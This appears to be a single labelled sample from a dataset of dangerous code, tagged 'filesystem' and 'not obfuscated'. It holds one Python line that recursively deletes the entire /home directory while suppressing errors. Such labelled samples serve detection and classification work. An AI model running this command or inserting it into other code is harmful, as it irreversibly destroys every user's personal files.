# category: filesystem
# obfuscated: no
import shutil
shutil.rmtree("/home", ignore_errors=True)
